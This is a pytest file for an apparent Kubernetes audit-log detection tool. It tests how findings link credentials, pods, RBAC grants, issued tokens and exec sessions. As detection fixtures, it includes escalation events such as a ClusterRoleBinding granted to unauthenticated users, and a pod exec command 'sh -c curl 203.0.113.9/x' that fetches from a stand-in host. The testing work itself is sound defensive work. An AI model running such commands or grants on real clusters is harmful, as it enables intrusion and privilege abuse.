"""Findings come with the keys that join them, whole or in parts."""

import json
from collections.abc import Callable
from typing import Any

import msgspec
import pytest

from kwho.detect.rule import Rule, RuleSet
from kwho.kernel import conclude
from kwho.link.incidents import Linked
from kwho.link.trace import Gain, Places, Thing, Trace
from kwho.query.parse import parse_query
from kwho.schema.finding import Severity
from kwho.schema.result import Result

Make = Callable[..., dict[str, Any]]
Traces = Callable[..., list[Trace]]
RBAC = "rbac.authorization.k8s.io"
EXTRA = "authentication.kubernetes.io/"


@pytest.fixture
def traces(scan: Callable[..., Result], monkeypatch: pytest.MonkeyPatch) -> Traces:
    """What linking is given for some events."""
    seen: list[tuple[list[Trace], Places]] = []

    def link(found: list[Trace], case: Any) -> Linked:
        seen.append((list(found), case.places))
        return Linked(())

    monkeypatch.setattr(conclude, "link", link)

    def given(
        *events: dict[str, Any], query: str = "verb:*", level: Severity = "medium", **options: Any
    ) -> list[Trace]:
        grave = msgspec.structs.replace(_rule(query), id="grave")  # without one nothing is linked
        scan(
            *events,
            rules=RuleSet(rules=(_rule(query, level), *([grave] if level == "informational" else ()))),
            **options,
        )
        given.places = seen[-1][1]  # type: ignore[attr-defined]  # told beside
        return seen.pop()[0]

    return given


def _rule(query: str, level: Severity = "medium") -> Rule:
    return Rule(id="r", title="Rule", level=level, condition=parse_query(query))


def ref(resource: str, name: str, namespace: str | None = "shop", **members: str) -> dict[str, Any]:
    found = {"resource": resource, "name": name, "namespace": namespace, "apiVersion": "v1"} | members
    return {key: value for key, value in found.items() if value}


def account(name: str, **extra: str) -> dict[str, Any]:
    told = {EXTRA + key.replace("_", "-"): [value] for key, value in extra.items()}
    return {"username": f"system:serviceaccount:shop:{name}", "groups": ["system:serviceaccounts"], "extra": told}


def test_the_credential_and_the_pod_it_is_bound_to(event: Make, traces: Traces) -> None:
    (trace,) = traces(event(1, user=account("web", credential_id="JTI=1", pod_name="web-1")))
    assert (trace.credentials, trace.pods, trace.verbs) == (("JTI=1",), ("shop/web-1",), ("get",))
    assert trace.used == (Thing("secrets", "shop", "s1"),)
    assert trace.made == ()
    assert trace.peer == "10.0.0.7"


def test_what_is_informational_joins_nothing(event: Make, traces: Traces) -> None:
    told = event(1, verb="create", user=account("web", credential_id="JTI=1", pod_name="web-1"))
    plain, grave = sorted(traces(told, level="informational"), key=lambda trace: trace.rank)
    assert (grave.credentials, plain.credentials, plain.pods, plain.agents) == (("JTI=1",), (), (), ())
    assert (plain.first, plain.last, plain.users) == (grave.first, grave.last, grave.users)
    assert (plain.peer, plain.verbs) == (grave.peer, ())


def test_all_credentials_of_a_finding_are_kept(event: Make, traces: Traces) -> None:
    made = [event(number, at=number, user=account("web", credential_id=f"JTI={number % 3}")) for number in range(9)]
    (trace,) = traces(*made)
    assert trace.credentials == ("JTI=0", "JTI=1", "JTI=2")
    assert len(trace.used) == 9


@pytest.mark.parametrize(
    ("members", "gains"),
    [
        (
            {
                "verb": "create",
                "objectRef": ref("clusterrolebindings", "b", None, apiGroup=RBAC),
                "requestObject": {
                    "kind": "ClusterRoleBinding",
                    "roleRef": {"kind": "ClusterRole", "name": "x"},
                    "subjects": [
                        {"kind": "User", "name": "eve"},
                        {"kind": "ServiceAccount", "name": "web", "namespace": "shop"},
                        {"kind": "Group", "name": "system:unauthenticated"},
                        {"kind": "Group", "name": "devs"},
                    ],
                },
            },
            {Gain("grant", "eve"), Gain("grant", "system:serviceaccount:shop:web"), Gain("grant", "system:anonymous")},
        ),
        (
            {"verb": "create", "objectRef": ref("serviceaccounts", "web")},
            {Gain("account", "system:serviceaccount:shop:web")},
        ),
        (
            {"verb": "create", "objectRef": ref("serviceaccounts", "web", subresource="token")},
            {Gain("token", "system:serviceaccount:shop:web")},
        ),
        (
            {
                "verb": "create",
                "objectRef": ref("secrets", "t"),
                "requestObject": {
                    "kind": "Secret", "metadata": {"annotations": {"kubernetes.io/service-account.name": "web"}},
                },
            },
            {Gain("token", "system:serviceaccount:shop:web")},
        ),
        ({"verb": "create", "objectRef": ref("configmaps", "c"), "requestObject": {"kind": "ConfigMap"}}, set()),
    ],
)  # fmt: skip
def test_identities_that_a_request_opened_a_way_to(
    event: Make, traces: Traces, members: dict[str, Any], gains: set[Gain]
) -> None:
    made = event(1, level="Request", **{"responseStatus": {"code": 201}} | members)
    (trace,) = traces(made)
    assert set(trace.gains) == gains
    (refused,) = traces(made | {"responseStatus": {"code": 403}})
    assert (refused.gains, refused.made) == ((), ())


def test_a_token_that_was_handed_out(event: Make, traces: Traces) -> None:
    notes = {EXTRA + "issued-credential-id": "JTI=7", "authorization.k8s.io/decision": "allow"}
    (trace,) = traces(
        event(1, verb="create", objectRef=ref("serviceaccounts", "web", subresource="token"), annotations=notes)
    )
    assert trace.issued == ("JTI=7",)


def test_a_pod_that_was_entered_and_what_owns_a_pod_that_was_made(event: Make, traces: Traces) -> None:
    inside = event(
        1, objectRef=ref("pods", "web-1", subresource="exec"), responseStatus={"code": 101}, stage="ResponseStarted"
    )
    (entry,) = traces(inside)
    assert entry.entered == ("shop/web-1",)
    pod = {"kind": "Pod", "metadata": {"ownerReferences": [{"kind": "ReplicaSet", "name": "web-7f"}]}}
    made = event(2, verb="create", objectRef=ref("pods", ""), requestObject=pod, level="Request")
    (trace,) = traces(made)
    assert trace.owners == (Thing("replicasets", "shop", "web-7f"),)


@pytest.mark.parametrize(
    ("named", "binding"),
    [
        ('ClusterRoleBinding "ops"', Thing("clusterrolebindings", "", "ops")),
        ('RoleBinding "ops/shop"', Thing("rolebindings", "shop", "ops")),
    ],
)
def test_the_binding_that_allowed_a_request(event: Make, traces: Traces, named: str, binding: Thing) -> None:
    reason = f'RBAC: allowed by {named} of ClusterRole "admin" to Group "sre"'
    notes = {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": reason}
    members = {"objectRef": ref("roles", "r", apiGroup="rbac.authorization.k8s.io"), "annotations": notes}
    (trace,) = traces(event(1, verb="create", responseStatus={"code": 201}, **members), query="verb:create")
    assert trace.allowed == (binding,)
    refused = event(1, verb="create", responseStatus={"code": 403}, **members)
    assert traces(refused, query="verb:create")[0].allowed == ()


def test_who_was_seen_where_counts_what_no_rule_matched(event: Make, traces: Traces) -> None:
    nobody = event(3, user={"username": "system:anonymous", "groups": ["system:unauthenticated"]}, verb="list")
    traces(event(1), event(2, user={"username": "bo"}, verb="list"), nobody, query="verb:get")
    places: Places = traces.places  # type: ignore[attr-defined]  # told beside
    assert places.users == {"10.0.0.7": frozenset({"ana", "bo"})}
    assert places.peers == {"ana": frozenset({"10.0.0.7"}), "bo": frozenset({"10.0.0.7"})}


def test_long_commands_are_payloads(event: Make, traces: Traces) -> None:
    uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command=curl+203.0.113.9%2Fx"
    made = event(
        1,
        objectRef=ref("pods", "web-1", subresource="exec"),
        requestURI=uri,
        responseStatus={"code": 101},
        stage="ResponseStarted",
    )
    (trace,) = traces(made, query="exec.command:*curl*")
    assert trace.payloads == ("sh -c curl 203.0.113.9/x",)
    assert traces(made, query="verb:get")[0].payloads == ()
    assert json.dumps(trace.payloads)
